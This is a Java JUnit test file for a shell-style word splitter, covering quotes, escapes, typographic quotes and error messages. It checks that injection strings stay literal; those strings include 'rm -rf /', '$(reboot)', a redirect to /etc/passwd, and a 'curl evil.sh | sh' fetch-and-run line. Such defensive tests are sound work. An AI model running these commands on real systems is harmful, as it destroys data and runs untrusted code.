package dev.commandeer.command;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class WordsTest {

  private static List<String> values(String line) {
    return Words.split(line).stream().map(Word::value).toList();
  }

  @Test
  void splits_on_any_whitespace_including_newlines_and_tabs() {
    assertThat(values("  deploy\tapi \n\n staging\r\n"))
        .containsExactly("deploy", "api", "staging");
  }

  @Test
  void treats_a_no_break_space_as_a_separator() {
    assertThat(values("deploy\u00A0api")).containsExactly("deploy", "api");
  }

  @Test
  void gives_no_words_for_a_blank_line() {
    assertThat(Words.split("")).isEmpty();
    assertThat(Words.split(" \n\t ")).isEmpty();
  }

  @Test
  void keeps_everything_inside_single_quotes_literally() {
    assertThat(values("echo 'a  \"b\" \\n c'")).containsExactly("echo", "a  \"b\" \\n c");
  }

  @Test
  void lets_a_backslash_escape_only_quote_and_backslash_inside_double_quotes() {
    assertThat(values("echo \"say \\\"hi\\\" \\\\ \\n 'x'\""))
        .containsExactly("echo", "say \"hi\" \\ \\n 'x'");
  }

  @Test
  void lets_a_backslash_outside_quotes_escape_the_next_character() {
    assertThat(values("a\\ b c\\'d \\\"e")).containsExactly("a b", "c'd", "\"e");
  }

  @Test
  void joins_quoted_and_unquoted_parts_of_one_word() {
    assertThat(values("--env='pro'\"duction\" x")).containsExactly("--env=production", "x");
  }

  @Test
  void keeps_an_empty_quoted_word() {
    assertThat(values("a '' \"\" b")).containsExactly("a", "", "", "b");
  }

  @Test
  void keeps_newlines_inside_quotes() {
    assertThat(values("echo 'line one\nline two'")).containsExactly("echo", "line one\nline two");
  }

  @Test
  void reads_typographic_double_quotes_like_plain_ones() {
    assertThat(values("deploy “my service” staging"))
        .containsExactly("deploy", "my service", "staging");
  }

  @Test
  void reads_typographic_single_quotes_like_plain_ones() {
    assertThat(values("echo ‘a \\ b’")).containsExactly("echo", "a \\ b");
  }

  @Test
  void keeps_a_typographic_apostrophe_inside_a_word() {
    assertThat(values("todo add don’t forget")).containsExactly("todo", "add", "don’t", "forget");
  }

  @Test
  void lets_a_typographic_double_quote_hold_plain_quotes() {
    assertThat(values("echo “it's \"fine\"”")).containsExactly("echo", "it's \"fine\"");
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "; rm -rf /",
        "$(reboot)",
        "`id`",
        "a | b",
        "x && y",
        "$HOME",
        "${PATH}",
        "> /etc/passwd",
        "*"
      })
  void never_expands_or_interprets_shell_syntax(String injection) {
    assertThat(values(injection)).containsExactly(injection.split(" "));
  }

  @Test
  void keeps_a_command_substitution_as_one_literal_word() {
    assertThat(values("deploy '$(curl evil.sh | sh)'"))
        .containsExactly("deploy", "$(curl evil.sh | sh)");
  }

  @Test
  void records_where_each_word_sits_in_the_line_quotes_included() {
    String line = "  deploy 'my api'  x";
    List<Word> words = Words.split(line);
    assertThat(words)
        .containsExactly(
            new Word("deploy", 2, 8), new Word("my api", 9, 17), new Word("x", 19, 20));
    assertThat(line.substring(words.get(1).start(), words.get(1).end())).isEqualTo("'my api'");
  }

  @Test
  void refuses_an_unterminated_double_quote_and_shows_where_it_starts() {
    assertThatThrownBy(() -> Words.split("deploy \"api staging"))
        .isInstanceOf(CommandException.class)
        .hasMessageContaining("Unterminated double quote starting at `\"api staging`");
  }

  @Test
  void refuses_an_unterminated_single_quote() {
    assertThatThrownBy(() -> Words.split("echo it's"))
        .isInstanceOf(CommandException.class)
        .hasMessageContaining("Unterminated single quote starting at `'s`");
  }

  @Test
  void refuses_an_unterminated_typographic_quote() {
    assertThatThrownBy(() -> Words.split("echo “hello"))
        .isInstanceOf(CommandException.class)
        .hasMessageContaining("Unterminated double quote starting at `“hello`");
  }

  @Test
  void shortens_the_quoted_part_of_a_long_unterminated_quote() {
    assertThatThrownBy(() -> Words.split("echo \"" + "x".repeat(500)))
        .hasMessageContaining("`\"" + "x".repeat(19) + "…`")
        .satisfies(e -> assertThat(e.getMessage()).hasSizeLessThan(200));
  }

  @Test
  void refuses_a_trailing_backslash() {
    assertThatThrownBy(() -> Words.split("echo hi\\"))
        .isInstanceOf(CommandException.class)
        .hasMessageContaining("ends with a backslash");
  }

  @Test
  void does_not_let_an_escaped_closing_quote_close_it() {
    assertThatThrownBy(() -> Words.split("echo \"abc\\\"")).isInstanceOf(CommandException.class);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "plain",
        "two words",
        "it's",
        "say \"hi\"",
        "back\\slash",
        "",
        "‘x’",
        "a\nb",
        "$(x)"
      })
  void quotes_any_value_so_that_it_splits_back_into_that_one_word(String value) {
    assertThat(values(Words.quote(value))).containsExactly(value);
  }
}
